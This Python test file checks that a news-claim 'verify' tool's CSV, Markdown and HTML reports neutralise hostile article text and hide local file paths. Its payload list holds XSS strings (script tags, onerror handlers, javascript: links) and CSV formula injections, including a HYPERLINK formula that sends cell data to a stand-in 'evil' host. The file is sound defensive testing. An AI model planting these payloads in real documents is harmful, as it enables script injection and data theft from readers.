"""Reports on hostile article text: nothing an article says may run in a spreadsheet, a Markdown viewer or a
browser, and reports for editors must not show where the files sit on the disk of whoever ran verify."""

from __future__ import annotations

import csv
import dataclasses
import html
import io
import json
import re
from html.parser import HTMLParser

import pytest
from conftest import make_article, make_claim
from markdown_it import MarkdownIt

from verify.records import Link, Relation
from verify.report import build_report, display_source, render
from verify.store import ClaimIndex

LOCAL = "/home/alice/secret-folder/nota.txt"
URL = "https://example.org/a.html"

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "[click](javascript:alert(1))",
    "![x](http://evil/x.png)",
    "<javascript:alert(1)>",
    "`code`",
    "# heading",
    "a | b |\n|---|---|\n| c | d |",
    "Rusia armó\n<script>alert(1)</script>\n# y más",
    "Rusia armó\r\n\r\n<img src=x onerror=alert(1)>",
    "- item",
    "1. item",
    "> cita",
    "**negrita** y _cursiva_ ~~tachado~~",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\<script>alert(1)</script>",
    '=HYPERLINK("http://evil/?x="&A1,"ver")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
NUMBER_COLUMNS = ("score", "a_id", "b_id")


@pytest.fixture(params=PAYLOADS, ids=range(len(PAYLOADS)))
def hostile(request, tmp_path, fake_encoder):
    """An index whose two linked articles carry the payload in every field an article controls: title,
    id, claim text, speaker, side, entity (hence the story title); one is a local file, one a URL."""
    payload = request.param
    ix = ClaimIndex.open(tmp_path / "ix", create=True)
    with ix.batch():
        ix.bind_model(fake_encoder.name, fake_encoder.fingerprint, fake_encoder.dim)
        stored = []
        for aid, source in ((payload, LOCAL), ("a2", URL)):
            claim = make_claim(aid, payload, speaker=payload, side=payload, entities=[payload])
            article = dataclasses.replace(make_article(aid, payload, title=payload, outlet=payload), source=source)
            stored += ix.add_article(article, [claim], fake_encoder.encode([payload]))
        ix.add_links([Link(stored[0].id, stored[1].id, Relation.CONTRADICTS, 0.9, payload, 0.9, "t")])
    yield ix, payload
    ix.close()


def _flat(text: str) -> str:
    return " ".join(text.split())


def test_csv_cells_never_start_a_formula(hostile):
    index, payload = hostile
    rows = list(csv.DictReader(io.StringIO(render(build_report(index), "csv"))))
    assert len(rows) == 1
    row = rows[0]
    for column, cell in row.items():
        if column in NUMBER_COLUMNS:
            assert re.fullmatch(r"\d+(\.\d+)?", cell), (column, cell)
        else:
            assert not cell.startswith(FORMULA_START), (column, cell)
    quoted = "'" + payload if payload.startswith(FORMULA_START) else payload
    for column in ("story", "reason", "a_text", "a_speaker", "a_side", "a_title", "a_article", "b_text"):
        assert row[column] == quoted, column
    assert row["a_source"] == LOCAL and row["b_source"] == URL  # a data export keeps the full path


class _Tags(HTMLParser):
    """Every start tag with its attributes, as a browser would see them."""

    def __init__(self, text: str):
        super().__init__()
        self.tags: list[tuple[str, dict]] = []
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))


def _assert_inert(page: str, allowed: set[str]) -> None:
    tags = _Tags(page).tags
    assert {t for t, _ in tags} <= allowed, {t for t, _ in tags} - allowed
    for tag, attrs in tags:
        assert not any(k.startswith("on") for k in attrs), (tag, attrs)
        assert "javascript:" not in " ".join(v or "" for v in attrs.values()).lower(), (tag, attrs)
    assert not re.search(r"<(script|img|iframe|a)\b", page, re.IGNORECASE)


def test_markdown_renders_no_markup_from_the_article(hostile):
    index, payload = hostile
    md = render(build_report(index), "md")
    for construct in ("<script", "<img", "<iframe", "](javascript:", "!["):
        assert construct not in md
    page = MarkdownIt("commonmark").render(md)
    # The report's own structure, and nothing more: one heading per level, one quote, A and B in bold.
    _assert_inert(page, {"h1", "h2", "h3", "p", "blockquote", "strong", "code", "br"})
    assert [len(re.findall(f"<{t}>", page)) for t in ("h1", "h2", "h3", "blockquote", "strong", "code")] == \
        [1, 1, 1, 1, 2, 2]
    # ... and the article's text reads as written (line breaks folded into spaces).
    shown = _flat(html.unescape(re.sub(r"<[^>]+>", " ", page)))
    assert f"“{_flat(payload)}”" in shown
    assert f"{_flat(payload)} · {_flat(payload)} — nota.txt" in shown  # title · outlet — source


def test_html_report_has_no_markup_from_the_article(hostile):
    index, payload = hostile
    page = render(build_report(index), "html")
    _assert_inert(page, {"html", "head", "meta", "title", "style", "body", "h1", "h2", "p", "div", "span", "b",
                         "q", "br"})
    assert f"<q>{html.escape(payload)}</q>" in page


@pytest.mark.parametrize("fmt", ["md", "html"])
def test_editor_reports_name_files_not_paths(hostile, fmt):
    index, _ = hostile
    text = render(build_report(index), fmt)
    assert "/home/alice" not in text and "secret-folder" not in text
    assert "nota.txt" in text and URL in text


def test_json_keeps_the_full_source(hostile):
    index, _ = hostile
    link = json.loads(render(build_report(index), "json"))["links"][0]
    assert {link["a"]["article"]["source"], link["b"]["article"]["source"]} == {LOCAL, URL}


@pytest.mark.parametrize("source, shown", [
    (LOCAL, "nota.txt"),
    (URL, URL),
    ("HTTP://Example.org/x?y=1", "HTTP://Example.org/x?y=1"),
    ("C:\\Users\\alice\\Documents\\nota.txt", "nota.txt"),
    ("exports/feed.jsonl", "feed.jsonl"),
    ("nota.txt", "nota.txt"),
    ("-", "-"),  # standard input
    ("file:///home/alice/nota.txt", "nota.txt"),
])
def test_display_source(source, shown):
    assert display_source(source) == shown


def test_hostile_file_name_stays_inside_its_code_span(tmp_path, fake_encoder):
    """A file name may hold backticks and line breaks: the code span must neither close early nor let the
    next line open a block."""
    name = "``<img src=x onerror=alert(1)>`\n# <script>alert(1).txt"  # no "/": a file name cannot hold one
    ix = ClaimIndex.open(tmp_path / "ix", create=True)
    with ix.batch():
        ix.bind_model(fake_encoder.name, fake_encoder.fingerprint, fake_encoder.dim)
        stored = []
        for aid in ("a1", "a2"):
            article = dataclasses.replace(make_article(aid, "Rusia envió armas."), source=f"/home/alice/{name}")
            stored += ix.add_article(article, [make_claim(aid, "Rusia envió armas.")],
                                     fake_encoder.encode(["Rusia envió armas."]))
        ix.add_links([Link(stored[0].id, stored[1].id, Relation.CONTRADICTS, 0.9, "r", 0.9, "t")])
    page = MarkdownIt("commonmark").render(render(build_report(ix), "md"))
    ix.close()
    _assert_inert(page, {"h1", "h2", "h3", "p", "blockquote", "strong", "code", "br"})
    codes = [html.unescape(c) for c in re.findall(r"<code>(.*?)</code>", page)]
    assert codes == [" ".join(name.split("\n"))] * 2
